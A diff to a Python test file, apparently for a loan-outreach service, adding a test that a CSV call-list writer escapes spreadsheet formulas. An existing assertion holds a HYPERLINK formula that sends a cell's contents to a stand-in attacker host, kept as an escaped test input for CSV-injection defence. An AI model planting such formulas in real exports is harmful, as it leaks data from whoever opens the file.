@@ -9,6 +9,7 @@ from __future__ import annotations
 
 import csv
 import io
+from pathlib import Path
 
 from fastapi.testclient import TestClient
 from hypothesis import given
@@ -74,3 +75,16 @@ def test_screening_csv_reports_neutralise_formulas(client: TestClient, admin_key
     assert r.status_code == 200, r.text
     no_formula(r.text)
     assert "'=HYPERLINK(\"http://evil.example/?leak=\"&A1,\"click\")" in cells(r.text)
+
+
+def test_the_branch_call_list_neutralises_formulas(tmp_path: Path) -> None:
+    from finguard.loans.channels import CallListSender
+    from finguard.loans.service.outreach import Channel, Message
+
+    path = tmp_path / "calls.csv"
+    sender = CallListSender(path)
+    for i, evil in enumerate(HOSTILE):
+        sender.send(Message(f"k{i}", "c", f"cust{i}", Channel.CALL, "+8613912345678", "zh", "s", evil))
+    text = path.read_text(encoding="utf-8")
+    no_formula(text)
+    assert "'+8613912345678" in cells(text)
